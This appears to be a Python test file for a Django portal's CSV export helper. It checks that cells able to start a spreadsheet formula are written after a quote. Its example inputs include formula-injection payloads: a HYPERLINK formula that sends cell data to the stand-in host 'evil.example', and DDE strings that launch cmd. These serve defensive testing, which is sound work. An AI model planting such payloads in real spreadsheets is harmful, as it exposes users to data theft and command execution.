"""Every CSV the portal writes for people: no cell can start a spreadsheet formula."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

from django.conf import settings
from hypothesis import example, given
from hypothesis import strategies as st

from portal.csv_safety import FORMULA_STARTS, formula_safe_writer, neutralise_cell

APPS = ("portal", "accounts", "agencies", "inquiries", "documents", "isinsured")
# CSV that no person opens, kept byte-exact: the feed of PostgreSQL's COPY, and the import's
# spool of problems that the same import reads back before writing the report.
INTERNAL_WRITERS = {
    "inquiries/importing/reading.py": 1,
    "inquiries/importing/service.py": 1,
}

TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"))
DANGEROUS = st.builds(lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS), TEXT)


def written(*rows: list) -> list[list[str]]:
    """The rows as a spreadsheet would read the cells back from the file."""
    stream = io.StringIO(newline="")
    formula_safe_writer(stream).writerows(rows)
    return list(csv.reader(io.StringIO(stream.getvalue(), newline="")))


def starts_a_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


@given(DANGEROUS)
@example('=HYPERLINK("https://evil.example/?"&A1,"Click")')
@example("=cmd|' /C calc'!A0")
@example("@SUM(1+1)*cmd|' /C calc'!A0")
@example("-2+3+cmd|' /C calc'!A0")
@example("\t=1+1")
def test_text_that_could_start_a_formula_is_written_after_a_quote(text):
    [[cell]] = written([text])
    assert cell == "'" + text
    assert not starts_a_formula(cell)


@given(TEXT.filter(lambda text: not text.startswith(FORMULA_STARTS)))
def test_other_text_is_written_as_it_is(text):
    assert neutralise_cell(text) == text


def test_numbers_the_portal_writes_stay_numbers():
    assert written([-12, 3.5, Decimal("-1.50"), 0, None]) == [["-12", "3.5", "-1.50", "0", ""]]


def test_a_mobile_written_as_text_keeps_its_digits_and_cannot_be_a_formula():
    assert written(["+989121234567"]) == [["'+989121234567"]]


def test_a_cell_cannot_break_out_into_the_next_cell():
    [row] = written(['x","=1+1', "a,=2+2", "line\n=3+3"])
    assert row == ['x","=1+1', "a,=2+2", "line\n=3+3"]


def test_every_csv_writer_in_the_apps_goes_through_the_helper():
    found: dict[str, int] = {}
    for app in APPS:
        for path in (Path(settings.BASE_DIR) / app).rglob("*.py"):
            relative = path.relative_to(settings.BASE_DIR).as_posix()
            if relative == "portal/csv_safety.py":
                continue
            count = len(re.findall(r"csv\.(writer|DictWriter)\(", path.read_text("utf-8")))
            if count:
                found[relative] = count
    assert found == INTERNAL_WRITERS
